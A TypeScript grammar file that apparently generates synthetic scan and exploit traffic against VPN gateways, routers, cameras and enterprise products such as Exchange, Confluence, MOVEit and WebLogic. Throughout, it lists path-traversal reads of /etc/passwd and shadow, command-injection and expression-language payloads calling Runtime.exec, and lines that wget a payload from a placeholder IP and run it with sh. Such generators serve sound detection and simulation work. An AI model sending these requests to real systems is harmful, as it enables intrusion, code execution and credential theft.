// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold "${" by nature
/**
 * Requests for products that were attacked in the last years: what proves or tries their holes, and pages that only a scan
 * asks for on a site which has no such product. Paths are those of the makers' advisories and of public reports; what an
 * installed product serves to its own people is in product-pages.ts.
 */

import { type Grammar, grammar, lines } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import type { Random } from "../lib/random.ts";
import { briefCommand } from "./brief-commands.ts";

/** Each line: the method, then the target. */
const RULES: Grammar = grammar({
  ...LEXICON,
  cmd: (rng) => briefCommand(rng).replace(/^[;|&\s]+/, ""),
  run: [";«cmd»", "$(«cmd»)", "`«cmd»`", "|«cmd»", "&&«cmd»", "%0a«cmd»", "`«cmd»`"],
  up: [
    "../",
    "../../",
    "../../../",
    "../../../../",
    "../../../../../../",
    "..%2f..%2f..%2f",
    "%2e%2e/%2e%2e/",
    ".%2e/.%2e/.%2e/",
    "..%252f..%252f",
  ],
  secret: [
    "etc/passwd",
    "etc/shadow",
    "windows/win.ini",
    "etc/hosts",
    "proc/self/environ",
    "boot.ini",
    "«rnd».«xml|conf|ini»",
  ],
  drop: [
    "wget http://«ip»/«rnd».sh",
    "cd /tmp;wget http://«ip»:«port»/«rnd»",
    "curl http://«ip»/«rnd» -o «rnd»",
    "id",
    "busybox wget http://«ip»/«rnd».mips",
  ],
  el: [
    "${«int»*«int»}",
    "${''.getClass()}",
    '${T(java.lang.Runtime).getRuntime().exec("«cmd»")}',
    "%{«int»*«int»}",
    "#{«int»*«int»}",
    '${"«rnd»".getClass().forName("«rnd»")}',
  ],
  guid: ["«hex8»-«hex4»-4«hex1»«hex2»-8«hex1»«hex2»-«hex8»«hex4»"],

  gateway: lines`
    GET /dana-na/../dana/html5acc/guacamole/../../../../../../«secret»?/dana/html5acc/guacamole/
    GET /dana-na/«auth/url_default/welcome.cgi|auth/url_admin/welcome.cgi?type=inter|nc/nc_gina_ver.txt|css/ds.js|auth/url_«int»/welcome.cgi|auth/saml-endpoint.cgi|meeting/meeting_login.cgi»
    GET /dana-cached/«hc/hc_launcher.«int».jar|sc/webapplet.html|setup/setup.cgi»
    POST /dana-ws/«saml20.ws|saml.ws|samlecp.ws»
    GET /dana/«home/index.cgi|js/osinfo.js|«rnd».cgi»
    GET /api/v1/totp/user-backup-code/../../«license/keys-status/«run»|system/system-information|system/maintenance/archiving/cloud-server-test-connection»
    GET /api/v1/«configuration/users/user-roles/user-role/rest-userrole1/web/web-bookmarks/bookmark|cav/client/status/../../admin/options»
    GET /mifs/«aad/api/v2/«authorized/users|admins/users|ping|devices»«|?adminDeviceSpaceId=«digit»»|rs/api/v2/featureusage?format=«el»|rs/api/v2/«rnd»|user/login.jsp|c/windows/api/v2/device/registration|.;/services/LogService|admin/rest/api/v2/«rnd»»
    GET /mifs/c/«appstore|aftstore»/fob/«digit»/«digit»/sha256:kid=«digit»,st=theValue%20%20,et=«big»,h=gPath%5B«run»%5D/«guid».ipa
    POST /mics/«services/MICSLogService|api/v2/sentry/mics-config/handleMessage|login.jsp»
    GET /client/index.php%3F.php/gsb/«users|datetime|reports|broker».php
    GET /gsb/«users|datetime|reports».php
    POST /apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers
    POST /WSStatusEvents/EventHandler.asmx
    POST /WSVulnerabilityCore/VulCore.asmx
    GET /remote/«fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession|login|login?lang=en|info|hostcheck_install|sslvpn|network?host=«ip»|fgt_lang?lang=en»
    POST /remote/«hostcheck_validate|logincheck|error|logout|saml/login»
    PUT /api/v2/cmdb/system/admin/«admin|«rnd»»
    GET /api/v2/cmdb/«system/admin|firewall/policy|user/local|system/interface»
    GET /service-worker.js?local_access_token=«rnd»
    GET /ws/cli/open?cols=«int»&rows=«int»&local_access_token=«rnd»
    POST /api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi
    GET /api/«v2.0/«rnd»/../../../cgi-bin/fwbcgi|fabric/«device/status|authenticate/«rnd»|widget/«rnd»»»
    POST /configWizard/keyUpload.jsp
    POST /flatui/json
    POST /cgi-bin/module/«flatui_auth|//flatui_auth»
    POST /ssl-vpn/«hipreport.esp|agentmessage.esp|hipreportcheck.esp»
    GET /ssl-vpn/«getconfig.esp|prelogin.esp|login.esp|getsoftwarepage.esp?user=«el»»
    GET /global-protect/«login.esp|portal/css/login.css|portal/images/«rnd».«css|txt|js»|prelogin.esp|getconfig.esp|portal/portal.esp|getsoftwarepage.esp»
    POST /sslmgr?scep-profile-name=%«int»%«letter»«|n»
    GET /php/«utils/createRemoteAppwebSession.php/«rnd».js.map|ztp_gate.php/.js.map|ztp_gate.php/PAN_help/«rnd».css|login.php|utils/debug.php»
    GET /unauth/%252e%252e/php/«ztp_gate.php|«rnd».php»/PAN_help/«rnd».«css|js|html»
    GET /unauth/«php/change_password.php/..%2f..%2fphp/ztp_gate.php|..%2fphp%2f«rnd».php»
    GET /OS/startup/restore/restoreAdmin.php
    POST /bin/configurations/parsers/Checkpoint/CHECKPOINT.php
    POST /API/convertCSVtoParquet.php
    GET /vpn/../vpns/«portal/scripts/newbm.pl|portal/scripts/«rnd».pl|cfg/smb.conf|services.html|portal/«rnd».xml»
    GET /vpns/«cfg/smb.conf|portal/scripts/«newbm|rmbm|picktheme».pl»
    GET /vpn/«index.html|pluginlist.xml|js/rdx/core/lang/rdx_en.json.gz|logout.html|tmindex.html|init/redirection_body_resources.js|media/citrixgateway_logo.png»
    POST /pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1
    GET /gwtest/formssso?event=start&target=«hexlong»«hexlong»«hexlong»«hexlong»«hexlong»
    GET /«oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a<script>|oauth/rp/.well-known/openid-configuration|epa/scripts/win/nsepa_setup.exe|logon/LogonPoint/tmindex.html|nf/auth/getAuthenticationRequirements.do|p/u/getAuthenticationRequirements.do|menu/neo|menu/stc»
    POST /p/u/doAuthentication.do
    POST /documentum/upload.aspx?parentid=«rnd»&uploadid=«rnd»/../../cifs/«rnd».aspx
    GET /cgi-bin/«supportInstaller|supportLogin|sslvpnclient?launchplatform=«|mac&neProto=3»|management|jarrewrite.sh|viewcert|sonicfiles?RacNumber=25&Arg1=«up»«secret»|welcome»
    GET /__api__/v1/«logon|logon/«guid»/authenticate|config/domains»
    GET /«auth.html|auth1.html|sslvpnLogin.html|api/sonicos/«auth|is-sslvpn-enabled|tfa|config/current»|workplace/access/home|appliance/applianceMainPage?action=perform&comEvent=«run»|spog/welcome|ext-js/app/common/zld_product_spec.js»
    POST /«ztp/cgi-bin/handler|cgi-bin/dispatcher.cgi|cgi-bin/zysh-cgi|cgi-bin/export-cgi|cgi-bin/LoginUserName|cgi-bin/pkg_init.cgi|cgi-bin/remote_help-cgi/«rnd»»
    GET /+CSCOE+/«logon.html|logon.html?fcadbadd=1|session_password.html|portal.html|transfer.html|win.js|saml/sp/login|files/file_list.json?path=/«sessions|»»
    GET /+CSCOT+/«translation-table?type=mst&textdomain=/%2bCSCOE%2b/«portal_inc.lua|«rnd».inc»&default-language&lang=../|oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua»
    POST /+CSCOU+/../+CSCOE+/«files/file_action.html|files/file_list.json?path=/|logon.html|«rnd».«html|lua»»
    GET /+CSCOL+/«Java.jar|a1.jar|vpnc.wsf|cscopf.ocx»
    GET /+webvpn+/«index.html|webvpn_logout.html»
    POST /%2577ebui_wsma_http«|s»
    POST /«webui_wsma_http|webui_wsma_https|webui/logoutconfirm.html?logon_hash=1|webui/rest/softwareMgmt/«rnd»|restconf/data»
    GET /«webui/|webui/login.html|webui/«rnd»|level/15/exec/-/sh/run/CR|level/«digit»«digit»/exec/-/«rnd»|exec/show/config/cr»
    POST /deployment-rpc/«enableStrongSwanTunnel|«Rnd»»
    GET /cslu/v1/«var/logs/customer-cslu-lib-log.log|scheduler/jobs|core/conf»
    GET /upload?«rnd»=%0a&JSESSIONID=«up»tmp
    GET /tmui/login.jsp/..;/tmui/«locallb/workspace/fileRead.jsp?fileName=/«secret»|locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin|locallb/workspace/directoryList.jsp?directoryPath=/«rnd»/|system/user/authproperties.jsp|util/getTabSet.jsp?tabId=«rnd»»
    GET /hsqldb;
    GET /tmui/«login.jsp|tmui/login/welcome.jsp»
    POST /mgmt/«tm/util/bash|shared/authn/login|shared/iapp/rpm-spec-creator|toc|tm/access/bundle-install-tasks»
    POST /clients/MyCRL
    GET /clients/MyCRL«|/«up»«secret»»
    POST /?PHPRC=/dev/fd/0
    POST /«webauth_operation.php|jsdm/ajax/«port|wizards/setup/«rnd»».php|slipstream/«rnd»»
    GET /«fshare_template|prx/000/http/localhost/«rnd»|userportal/webpages/myaccount/login.jsp|sslvpn/Login/Login|webconsole/webpages/login.jsp|webconsole/Controller?mode=«int»|userportal/Controller?mode=8700&operation=1&datagrid=179&json={"%u«hex4»":"«rnd»"}»
    POST /agent/login
    GET /access/set?param=enableapi&value=«digit»
    GET /accessv2
    GET /cgi-mod/«index.cgi|view_help.cgi?locale=/«up»«secret»|logo.cgi»
    GET /«sslvpn.html|svpn/«rnd»|vpn/list_base_config.php?type=mod&parts=base_config&template=«run»|vpn/user/download/client?ostype=«up»«secret»|global-protect/«rnd».esp|saml-idp/«rnd»/login/»
    POST /index.php/ajax/«rnd»?«rnd»=«run»
    GET /get_portal_info
    GET /appliance/«login|users»
    POST /portal/«ws/«rnd»|redlion|loginpage.aspx»
    POST /v1/backend1
    GET /v1/api?action=list_«rnd»_profiles&CID=«run»
    GET /webvpn/«rnd»/«up»«secret»
    GET /workplace/«rnd»`,

  router: lines`
    POST /boaform/admin/«formLogin|formPing|formPing6|formTracert|formUpgrade|formPasswordSetup|formLogin_en|formUploadDefault»
    GET /boaform/admin/formLogin?username=«admin|user|ec8|adminisp|telecomadmin|«rnd»»&psd=«admin|user|ec8|adminisp|Feefifofum|stdONU101|«rnd»»
    POST /boafrm/«formWsc|formSysCmd|formFilter|formWirelessTbl|formWlEncrypt|formWlSiteSurvey|formDMZ»
    POST /goform/«set_LimitClient_cfg|setSysAdm|SystemCommand|formSysCmd|SetNetControlList|fast_setting_wifi_set|telnet|WifiBasicSet|formWsc|setMacFilterCfg|set_cmd|goform_set_cmd_process|goform_get_cmd_process|form2saveConf.cgi|webLogin|formJsonAjaxReq|aspForm|formLogin|DiagPing»
    GET /goform/«setUsbUnload/.js?deviceName=«letter»«run»|getinfo|goform_get_cmd_process?cmd=«rnd»|getImgUrl|SysToolReboot|telnet|getStatus?random=0.«big»|WriteFacMac?mac=«run»»
    POST /GponForm/diag_Form«|?images/|?style/|?script/»
    GET /GponForm/«diag_Form?images/|LoginForm»
    «POST|GET|GET» /HNAP1«|/»
    GET /cgi-bin/luci/;stok=/locale?form=«country|lang»&operation=«read|write»«|&country=$(«cmd»)|&country=«rnd»»
    POST /cgi-bin/luci/;stok=«|«hex32»»/«admin/«mtk/«rnd»|settings|diag»|login?form=auth|api/xqsystem/«start_binding|set_sys_time»|api/misystem/«set_config_iotdev|c_upload|extendwifi_connect»?«rnd»=«rnd»«run»»
    GET /cgi-bin/luci/«|admin|rpc/sys|web/home|mini|rpc/auth»
    GET /setup.cgi?next_file=«netgear.cfg|afr.cfg|passwordrecovered.htm|currentsetting.htm»&todo=«syscmd|PNPX_GetShareFolderList|save_htp_account|con_test»&cmd=«drop»&curpath=/&currentsetting.htm=1
    GET /«currentsetting.htm|BRS_top.html|passwordrecovered.cgi?id=«rnd»|unauth.cgi?id=«int»|debuginfo.htm|multi_login.html|DEV_device_info.htm|rootDesc.xml|bsw_cxttongr.htm|brandname.cgi|MNU_top.htm|start.htm»
    GET /shell?cd+/tmp;rm+-rf+*;wget+«http://|»«ip»«:«port»|»/«rnd»«.sh|/jaws|»;sh+/tmp/«rnd»
    GET /shell?«cat+/etc/passwd|id|cd+/tmp;«rnd»»
    GET /language/Swedish\${IFS}&&cd\${IFS}/tmp;rm\${IFS}-rf\${IFS}*;wget\${IFS}http://«ip»:«port»/«rnd»;sh\${IFS}/tmp/«rnd»&>r&&tar\${IFS}/string.js
    POST /«tmUnblock|hndUnblock|apply|apply_sec|apply_noauth|ping|diagnostic|syscmd|upgrade_handle|command|ddns_check|get_set|set_ftp|hedwig|service|soap|ccp_act|getcfg|wan_dyn|usbinteract|scp|UpgradeFirmware|pppoe_diag»«.cgi|.php|.ccp|.htm|»
    POST /getcfg.php
    GET /getcfg.php?a=%0A_POST_SERVICES%3DDEVICE.ACCOUNT%0AAUTHORIZED_GROUP%3D1
    GET /cgi-bin/«mainfunction.cgi|mainfunction.cgi/apmcfgupload?session=«rnd»0%52$c%52$c%52$«cmd»|cvmcfgupload|wlogin.cgi|weblogin.cgi?username=admin'%3B«cmd»+%23&password=«rnd»|cstecgi.cgi?action=login&flag=«rnd»|webproc?getpage=/«secret»&errorpage=html/main.html|webcm?getpage=«up»«secret»|login.cgi?cli=multilingual+show';«cmd»'$|config.exp|qcmap_auth|qcmap_web_cgi|api.values.get|luci/api|popen.cgi?command=«cmd»&v=«int»|web_json.cgi|adm.cgi|main-cgi|jvsweb.cgi?«rnd»|ExportSettings.sh|ExportLogs.sh|nightled.cgi|pppoe_web.cgi?pppusername=«run»|sysconf.cgi?page=ajax.asp&action=save_monitor_diagnostic&mon_diag_addr=«run»|masterCGI?ping=nomip&user=;«cmd»;|ajaxmail|getuser.cgi|dynamic_script|network_mgr.cgi|info.cgi|timepro.cgi?tmenu=«rnd»&«rnd»=«run»|upload_vpntar.cgi|nobody/«Search|VerifyCode».cgi?action=cgi_query&ip=«run»|user/Config.cgi?.cab&action=get&category=Account.*|guest/«Search|Reboot».cgi?action=«rnd»&«rnd»=«run»|operator/servetest?cmd=ntp&ServerName=«run»|supervisor/«Factory|CloudSetup|PwdGrp».cgi?action=Set&«rnd»=«int»«run»|hi3510/«param.cgi?cmd=getuser|snap.cgi|getidentify.cgi»|downloadFlile.cgi?«rnd»|view/«rnd»|magicBox.cgi?action=getSystemInfo|userLogin.cgi»
    POST /cgi-bin/«mainfunction.cgi|cstecgi.cgi|ViewLog.asp|jvsweb.cgi|adm.cgi|api.values.get|slogin/login.py|nas_sharing.cgi|photocenter_mgr.cgi|login_mgr.cgi|wapopen|rpc|qcmap_web_cgi|account_mgr.cgi|firmwareupgrade|DownloadCfg/RouterCfm.cfg|execute_cmd.cgi»
    GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=«base64»
    GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;«cmd»;%27
    GET /cgi-bin/«photo_storage|privatelab|login|file_transfer|hd_config|system_mgr|sc_mgr|webfile_mgr|widget_api|kerbynet?Section=NoAuthREQ&Action=x509List&type=*"%0a«cmd»%0a"|quick/quick.cgi?func=switch_os&todo=uploaf_firmware_image|authLogin.cgi?«app=«hexlong»&|»sid=«run»|filemanager/utilRequest.cgi?func=«rnd»».cgi
    GET /«photo/p/api/album.php|photo/combine.php?type=javascript&g=core-r7rules/../../../«rnd».php?|photo/p/api/video.php|module/api.php?mobile/«webNasIPS|createRaid|wapNasIPS»|tos/index.php?explorer/pathList&path=«run»|include/makecvs.php?Event=«run»|desktop,/cgi-bin/«rnd».cgi|adv,/cgi-bin/weblogin.cgi?username=admin'%3B«cmd»+%23&password=«rnd»|cmd,/simZysh/register_main/setCookie?c0=«cmd»|r«int»,/«rnd»»
    PUT /SDK/webLanguage
    GET /SDK/«webLanguage|language|activateStatus»
    GET /«ISAPI/Security/users|Security/users?auth=YWRtaW46MTEK|System/configurationFile?auth=YWRtaW46MTEK|onvif-http/snapshot?auth=YWRtaW46MTEK|doc/page/login.asp|doc/script/common.js|PSIA/Custom/SelfExt/userCheck»
    GET /device.rsp?opt=«user|sys»&cmd=«list|___S_O_S_T_R_E_A_MAX___|___S_O_S_T_R_E_A_M___»«|&mdb=sos&mdc=«drop»»
    POST /«device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=«drop»|editBlackAndWhiteList|queryDevice|RPC2_Login|RPC2|OutsideCmd|login.rsp|dvr/cmd|cn/cmd»
    GET /«current_config/«passwd|Account1|Sha1Account1»|cgi-bin/magicBox.cgi?action=«getMachineName|getSystemInfo»|web_caps/webCapsConfig|Login.htm|view/viewer_index.shtml|axis-cgi/«jpg/image.cgi|admin/param.cgi|mjpg/video.cgi»|get_status.cgi|system.ini?loginuse&loginpas|snapshot.cgi?user=admin&pwd=|videostream.cgi|tmpfs/auto.jpg|decoder_control.cgi|etc/RT2870STA.dat|live.sdp|img/snapshot.cgi?«rnd»|-wvhttp-01-/GetOneShot|oneshotimage.jpg|capture/scapture)»
    GET /set_ftp.cgi?next_url=ftp.htm&loginuse=admin&loginpas=«rnd»&svr=«ip»&user=«run»
    POST /camera-cgi/admin/param.cgi
    POST /«picsdesc.xml|wanipcn.xml|picdesc.xml|soap.cgi?service=&«cmd»&|ctrlt/DeviceUpgrade_1|UD/act?1|UD/?9|upnpdev.cgi|upnp/control/«WANIPConn1|basicevent1|«rnd»»|dev/«rnd»»
    GET /«board.cgi?cmd=«cmd»|debug.cgi|handle_iscsi.php?act=discover&address=«run»|__debugging_center_utils___.php?log=«run»|upgrade_handle.php?cmd=writeuploaddir&uploaddir='«run»'|css_parser.php?css=«secret»|downloader.php?file=«secret»|backupmgt/«localJob.php?session=fail«run»|pre_connect_check.php?auth_name=fail«run»|getAlias.php?ip=«run»»»
    GET /«syno/|webman/«imageSelector.cgi|pingpong.cgi?action=cors»|scripts/uistrings.cgi|photo/include/synotheme_upload.php»
    GET /«status.cgi|rom-0|rom_0|tcpip.asp|userRpm/«LoginRpm.htm?Save=Save|SoftwareUpgradeRpm.htm|NetworkCfgRpm.htm»|cgi?1&5|cgi/conf.bin|cgi/getGDPRParm|incl/image_test.shtml|webadmin/«index.html|«rnd».php»|check_auth.php|login/login.php|lua/«rnd».lua|iocontrol.htm|index.cgi?active_page=«rnd»|Main_Login.asp|appGet.cgi?hook=«get_cfg_clientlist()|nvram_get(«rnd»)»|findasus.cgi|QIS_default.cgi|ajax_status.xml|start_apply.htm?«rnd»=«run»|api/v1/dvr/«rnd»|api/settings/networking?«rnd»=«run»»
    GET /sess-bin/login_session.cgi
    POST /login.cgi?«rnd»
    GET /unauthenticated/..%01/..%01/..%01/..%01/..%01/..%01/«secret»
    GET /«evox/about|sdk|nice%20ports%2C/Tri%6Eity.txt%2ebak|nmaplowercheck«big»|NmapUpperCheck«big»|Nmap/folder/check«big»|w00tw00t.at.«ISC.SANS.DFind|blackhats.romanian.anti-sec»:)|w00tw00t|azenv.php|bea_wls_internal/«rnd»|teorema505?t=1|systembc/password.php|ab2«g|h»|aaa9|aab«8|9»|alive.php|t4|geoip/|1.php|upl.php|odinhttpcall«big»|HelpSupport/«rnd»|pools/default/buckets|ipp|v2/_catalog|stssys.htm|TopAccess/default.htm|level/99/exec/-»
    POST /hp/device/«webAccess/index.htm|SetConfigDeviceInfo/Continue»
    GET /hp/device/«DeviceInformation/View|SignIn/Index»
    GET /«Remote/«rnd»|SnapshotJPEG?Resolution=640x480|cgi/«networkDiag|login|set_time».cgi|redfish/v1/«|Managers»|restgui/launch|xmldata?item=all|rpc/WEBSES/create.asp|avctSingleSignOn.html»`,

  enterprise: lines`
    POST /pages/«doenterpagevariables.action|createpage-entervariables.action?SpaceKey=«rnd»|createpage.action?spaceKey=«rnd»»
    GET /«confluence/||wiki/»server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=«false|0»
    POST /«confluence/||wiki/»setup/«setupadministrator.action|setupadministrator-start.action|finishsetup.action|setupdata-start.action»
    POST /json/setup-restore«|-local|-progress».action?synchronous=true
    POST /template/«aui/text-inline.vm|custom/content-editor|xhtml/«rnd».vm»
    GET /%24%7B«rnd»«.|%40java.lang.Runtime%40getRuntime().exec(%22«cmd»%22)»%7D/
    GET /«s/«rnd»/_/;/«WEB-INF/web.xml|META-INF/maven/com.atlassian.jira/«rnd»/pom.«xml|properties»|WEB-INF/decorators.xml»|plugins/servlet/oauth/users/icon-uri?consumerUri=«url»|plugins/servlet/gadgets/makeRequest?url=«url»@«rnd».«tld»|secure/ContactAdministrators!default.jspa|secure/QueryComponent!Default.jspa|servicedesk/customer/user/signup|download/attachments/«int»/../../../WEB-INF/web.xml|admin/editConfluence.action»
    GET /rest/api/latest/projects/«rnd»/repos/«rnd»/archive?filename=«rnd»&path=«rnd»&prefix=«rnd»%00--exec=%60«cmd»%60%00--remote=«rnd»
    POST /admin/plugins/newplugin
    POST /crowd/admin/uploadplugin.action
    GET /autodiscover/autodiscover.json?@«host»/«mapi/nspi/|owa/|ews/exchange.asmx|powershell»?&Email=autodiscover/autodiscover.json%3f@«host»
    GET /autodiscover/autodiscover.json?«rnd»@«rnd»«.«tld»|»/«powershell|owa|mapi/nspi|ecp»«/|»
    GET /autodiscover/«admin@localhost/powershell/autodiscover.json?x=«rnd»|autodiscover.json?a=«rnd»@«rnd».«rnd»/powershell/»
    GET /owa/auth/«x.js|«rnd».js|«rnd».aspx|15.1.«int»/themes/resources/favicon.ico»
    POST /ecp/««letter».js|«rnd».js|default.flt|DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory|proxyLogon.ecp|«rnd».css|Current/exporttool/microsoft.exchange.ediscovery.exporttool.application»
    GET /ecp/«default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwE«base64»|«letter».js|Current/exporttool/microsoft.exchange.ediscovery.exporttool.application|auth/«rnd».aspx»
    GET /aspnet_client/«rnd».aspx
    POST /_layouts/«15|16»/«ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx|Picker.aspx?PickerDialogType=«Rnd».«Rnd»,+«Rnd»|ToolPane.aspx?DisplayMode=Edit&«rnd»=/ToolPane.aspx|SignOut.aspx/«rnd»|quicklinks.aspx?mode=suite|WebPartAdder.aspx»
    GET /_layouts/«15|16»/«spinstall«digit».aspx|spinstall.aspx|info3.aspx|ghostfile«int».aspx|«rnd».aspx|download.aspx?SourceUrl=«rnd»»
    GET /_api/web/siteusers
    GET /_vti_bin/«owssvr.dll|_vti_aut/author.dll|shtml.dll|Lists.asmx|webpartpages.asmx|sites.asmx»
    GET /ReportServer«|/Pages/ReportViewer.aspx|/ReportService2010.asmx»
    POST /«Reports|ReportServer»/Pages/ReportViewer.aspx
    POST /Telerik.Web.UI.WebResource.axd?type=rau
    GET /«Telerik.Web.UI.DialogHandler.aspx?dp=«rnd»|DesktopModules/Admin/RadEditorProvider/DialogHandler.aspx?dp=1|Startup/Register|api/reportserver/«version|report»|providers/htmleditorproviders/cehtmleditor/«rnd».aspx»
    POST /Startup/Register
    POST /moveitisapi/moveitisapi.dll?action=«m2|m2|capa|«rnd»»
    POST /«moveitisapi/moveitisapi.dll|guestaccess.aspx|machine2.aspx»?«action=m2|«rnd»=«rnd»|»
    GET /«human2.aspx|guestaccess.aspx|machine2.aspx|moveitisapi/moveitisapi.dll|MOVEit_Install.ASP»
    POST /«api/v1/folders/«int»/files?uploadType=resumable|guestaccess.aspx|machine2.aspx»
    POST /NmAPI/«RecurringReport|«rnd»»
    GET /NmConsole/«CoreNm/User/DlgUserLogin/DlgUserLogin.asp|api/core/«rnd»|ReportService.asmx|WugSystemAppSettings/JMXSecurity»
    POST /goanywhere/«lic/accept|license/Unlicensed.xhtml/«rnd»|lic/request?javax.faces.ViewState=«base64»»
    GET /goanywhere/«images/..;/wizard/InitialAccountSetup.xhtml|license/Unlicensed.xhtml/«rnd»|auth/Login.xhtml»
    GET /WebInterface/«function/?command=«getUserList&serverGroup=MainUsers&c2f=«rnd»|getUsername&c2f=«rnd»|zip&path=<INCLUDE>«secret»</INCLUDE>&names=«*|/a»|exists&paths=<INCLUDE>users/MainUsers/groups.XML</INCLUDE>|getXMLListing&format=JSONOBJ&path={hostname}»|login.html|new-ui/sw.js»
    POST /Synchronization
    POST /loginok.html?username=«anonymous|admin»%00]]«rnd»
    GET /?InternalDir=/«up»«windows|etc»&InternalFile=«win.ini|passwd|«rnd».log»
    GET /?Command=«rnd»&InternalDir=«bs»..«bs»..«bs»..«bs»«rnd»&InternalFile=«rnd»
    POST /userentry?accountId=/«up»«rnd»«|/«rnd»»&symbolName=«rnd»&base64UserName=«rnd»
    POST /«mdm/checkin|mdm/serverurl|lshw|API/AutoUpdate.jsp|agententry?deflate=0&«rnd»=«up»«rnd»»
    GET /SetupWizard.aspx/«|«rnd»|literally«rnd»|«rnd»/«rnd»»
    POST /SetupWizard.aspx/«rnd»
    GET /«App_Extensions/«guid».ashx|Services/ReplicaService.ashx/«rnd»|Administration»
    GET /toolbox-resource/«../«resource1/../../configuration/serverconfig.xml|serverconfig.xml|secmsg/../../../«secret»»|«rnd»/../../../«secret»»
    GET /app?service=page/SetupCompleted
    POST /«app?service=«page/PrinterList|direct/1/PrinterList/$Form|page/ConfigEditor»|rpc/clients/xmlrpc»
    POST /commandcenter/«deployWebpackage.do|deployServiceCommcell.do|metricsUpload.do|metrics/metricsUpload.do»
    POST /«c/router|api/auth/login?«rnd»=«run»»
    GET /c/router
    POST /developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=«1|«int»»
    «GET|HEAD|POST» /developmentserver/metadatauploader
    GET /irj/«helper|cache|forwardsap|.webhelper|«rnd»».jsp«|?cmd=«cmd»|?cmdhghgghhdd=«cmd»»
    POST /CTCWebService/CTCWebServiceBean«|/ConfigServlet»
    GET /«CTCWebService/CTCWebServiceBean?wsdl|sap/public/bc/icf/logon|sap/admin/public/default.html|sap/public/info|ctc/servlet/com.sap.ctc.util.ConfigServlet?param=com.sap.ctc.util.FileSystemConfig;EXECUTE_CMD;CMDLINE=«cmd»|ctc/ConfigServlet?param=«rnd»|scheduler/ui/js/ffffffffbca41eb4/UIUtilJavaScriptJS?/..|«rnd»/com.sap.engine.«rnd»/..|webdynpro/resources/sap.com/«rnd»/«up»«secret»»
    GET /console/«css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=«|HomePage1»&handle=«com.tangosol.coherence.mvel2.sh.ShellSession|com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext»("«rnd»")|images/%252e%252e%252fconsole.portal|bea-helpsets/%252e%252e%252fconsole.portal|css/%2e%2e%2fconsole.portal|framework/skins/wlsconsole/images/%252e%252e%252f«rnd»»
    POST /_async/AsyncResponseService«|Soap12|Https|Jms»
    POST /wls-wsat/«CoordinatorPortType|CoordinatorPortType11|ParticipantPortType|RegistrationPortTypeRPC|RegistrationRequesterPortType»
    GET /«_async/favicon.ico|uddiexplorer/SearchPublicRegistries.jsp?operator=«url»|wls-wsat/«rnd»|bea_wls_deployment_internal/DeploymentService|ws_utc/«begin.do|config.do|login.do»|console/console.portal?_nfpb=true&_pageLabel=«rnd»»
    POST /OA_HTML/«SyncServlet|BneUploaderService|BneViewerXMLService?bne:uueupload=true|BneOfflineLOVService|configurator/UiServlet|help/../ieshostedsurvey.jsp»
    GET /OA_HTML/«BneApplicationService|ibeCAcpSSOReg.jsp|cabo/«up»«secret»|jsp/bsc/bscpgraph.jsp?ifl=/etc/&ifn=passwd|RF.jsp?function_id=«int»&TemplateCode=«rnd»&TemplatePreviewPG=«rnd»»
    POST /«oam/server/opensso/sessionservice|em/websvcs/«rnd»|reports/rwservlet?«rnd»=«rnd»+«up»«secret»|biremotingservlet|weblogic/«rnd»»
    GET /reports/rwservlet/«showenv|parsequery|showjobs|getserverinfo|kill_engine»
    GET /iam/governance/applicationmanagement/«api/v1/applications/groovyscriptstatus|templates»;«.wadl|«rnd».wadl»
    GET /«identity/faces/«rnd»|xmlpserver/convert?xml=<%3fxml+version="1.0"+%3f><!DOCTYPE+r+[<!ENTITY+%25+sp+SYSTEM+"«url»">%25sp%3b]>&_xf=Excel|hyperion/«rnd»|ADFFaces/«rnd»/..;/»
    POST /ui/vropspluginui/rest/services/«uploadova|getstatus|checkmobregister»
    POST /«ui/h5-vsan/rest/proxy/service/com.vmware.vsan.client.services.capability.VsanCapabilityProvider/getClusterCapabilityData|ui/h5-vsan/rest/proxy/service/&vsanProviderUtils_setVmodlHelper/«rnd»|analytics/telemetry/ph/api/«hyper|dataapp»/«send|agent»?_c=«|«rnd»»&_i=«/../../../../../../«rnd»|test|«rnd»»»
    GET /«catalog-portal/ui/oauth/verify?error=&deviceUdid=«el»|SAAS/«auth/login|t/_/;/auth/login|«rnd»»|eam/vib?id=«C:«bs»ProgramData«bs»VMware«bs»vCenterServer«bs»cfg«bs»vmware-vpx«bs»vcdb.properties|«secret»»|ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=«url|file:///«secret»»|casa/«nodes/thumbprints|private/config/slice/ha/certificate»|api/«rnd»?%2e%2e/«rnd»|hybridity/ui/hcx-client/index.html|portal/info.jsp|mobileconfig/«rnd»|vsphere-client/?csp|cgi-bin/info.cgi»
    POST /«saas./resttosaasservlet|hc/«rnd»/authenticate/|casa/nodes/thumbprints|websso/SAML2/SSO/«rnd»?SAMLRequest=«|%00»»
    POST /«service/extension/«backup/mboximport?account-name=«rnd»&«account-status=1&|»ow=«digit»&no-switch=1&append=1|clamav/«rnd»»|service/proxy?target=«url»|service/upload?fmt=extended&lbfums=«up»«rnd».jsp»
